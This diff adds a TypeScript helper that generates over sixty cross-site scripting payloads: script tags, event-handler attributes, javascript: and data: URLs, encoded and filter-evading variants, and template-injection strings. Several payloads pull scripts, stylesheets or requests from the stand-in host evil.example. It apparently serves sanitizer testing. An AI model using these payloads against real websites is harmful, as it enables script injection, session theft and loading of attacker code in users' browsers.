@@ -1,0 +1,20 @@
+/** Sixty and more ways to get a script run, or something fetched, through a text that ends up in a page. `call`: what the script would do. */
+export function scriptPayloads(call: string): string[] {
+  const encoded = [...`javascript:${call}`].map((letter) => `&#${letter.codePointAt(0)!}`).join(';');
+  const base64 = Buffer.from(`<script>parent.${call}</script>`).toString('base64');
+  return [
+    `<script>${call}</script>`, `"><script>${call}</script>`, `'><script>${call}</script>`, `</title><script>${call}</script>`, `</textarea><script>${call}</script>`, `</style><script>${call}</script>`,
+    `<ScRiPt>${call}</sCrIpT>`, `<script/x>${call}</script>`, `<script src=//evil.example/x.js></script>`, `<scr<script>ipt>${call}</scr</script>ipt>`, `<script>//<![CDATA[\n${call}//]]></script>`, `<!--><script>${call}</script-->`,
+    `<img src=x onerror=${call}>`, `<img src=x onerror="${call}">`, `<img/src=x/onerror=${call}>`, `<img src="x" onerror\n=\n"${call}">`, `<img src=x:x oneRRor=${call}>`, `<img src="http://evil.example/x.png">`, `<img src=//evil.example/x>`, `<img srcset="http://evil.example/x.png 2x">`,
+    `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`).toString('base64')}">`, `<image src=x onerror=${call}>`, `<IMG """><SCRIPT>${call}</SCRIPT>">`,
+    `<svg onload=${call}>`, `<svg/onload=${call}>`, `<svg><script>${call}</script></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`, `<svg><foreignObject><script>${call}</script></foreignObject></svg>`, `<svg><use href="data:image/svg+xml;base64,${base64}#x"/></svg>`,
+    `<math><mtext><img src=x onerror=${call}></mtext></math>`, `<math href="javascript:${call}">x</math>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
+    `<a href="javascript:${call}">x</a>`, `<a href="${encoded}">x</a>`, `<a href="java\tscript:${call}">x</a>`, `<a href=" javascript:${call}">x</a>`, `<a href="data:text/html;base64,${base64}">x</a>`, `<a href="vbscript:${call}">x</a>`, `<a href="//evil.example" ping="//evil.example">x</a>`,
+    `<iframe src="javascript:${call}"></iframe>`, `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`, `<iframe src="//evil.example"></iframe>`, `<object data="javascript:${call}"></object>`, `<object data="data:text/html;base64,${base64}"></object>`, `<embed src="javascript:${call}">`, `<frameset onload=${call}>`,
+    `<body onload=${call}>`, `<input autofocus onfocus=${call}>`, `<select autofocus onfocus=${call}>`, `<textarea autofocus onfocus=${call}></textarea>`, `<video><source onerror=${call}></video>`, `<video src=x onerror=${call}>`, `<audio src=x onerror=${call}>`, `<details open ontoggle=${call}>x</details>`,
+    `<marquee onstart=${call}>x</marquee>`, `<div onmouseover="${call}">x</div>`, `<div style="background:url(//evil.example/x)">x</div>`, `<div style="background:u\\72l(//evil.example/x)">x</div>`, `<div style="width:expression(${call})">x</div>`, `<div style="animation-name:x" onanimationstart=${call}>x</div>`,
+    `<style>@import "//evil.example/x.css";</style>`, `<style>*{background:url(//evil.example/x)}</style>`, `<link rel=stylesheet href="//evil.example/x.css">`, `<link rel=prefetch href="//evil.example/x">`, `<meta http-equiv="refresh" content="0;url=javascript:${call}">`, `<base href="//evil.example/">`,
+    `<form action="javascript:${call}"><button>x</button></form>`, `<button formaction="javascript:${call}">x</button>`, `<isindex action="javascript:${call}">`, `<table background="//evil.example/x"><tr><td>x</td></tr></table>`, `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`, `<template><script>${call}</script></template>`,
+    `<xmp><img src=x onerror=${call}></xmp>`, `<plaintext><script>${call}</script>`, `{{ "<script>${call}</script>" }}`, `{{ record.constructor.constructor("${call}")() }}`, `{% raw %}<script>${call}</script>{% endraw %}`,
+  ];
+}
